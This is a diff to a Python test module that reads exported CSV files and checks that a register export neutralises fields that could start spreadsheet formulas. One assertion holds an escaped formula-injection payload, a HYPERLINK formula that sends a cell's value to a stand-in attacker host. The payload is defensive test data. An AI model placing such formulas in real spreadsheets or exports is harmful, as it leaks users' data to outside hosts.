@@ -81,8 +81,9 @@ def text_cells(path: Path, text: str) -> list[Any]:
 
 
 def csv_rows(path: Path) -> list[list[str]]:
-    with path.open(encoding="utf-8", newline="") as handle:
-        return list(csv.reader(handle))
+    """The fields of an exported CSV file (UTF-8 after a byte order mark, ';' between fields)."""
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.reader(handle, delimiter=";"))
 
 
 def stored(database_url: str, *statements: Any) -> None:
@@ -148,7 +149,7 @@ async def test_register_csv_neutralises_every_field_that_could_start_a_formula(
         assert fields.count("'" + SHOWN[attack]) == 1, attack
     assert [field for field in fields if field.startswith(TRIGGERS)] == []
     # Every field quoted, quotes inside doubled: the text survives any CSV reader.
-    raw = out.read_text(encoding="utf-8")
+    raw = out.read_text(encoding="utf-8-sig")
     assert '"\'=HYPERLINK(""http://evil.example/?d=""&B2,""klik"")"' in raw
     assert raw.startswith('"')
 
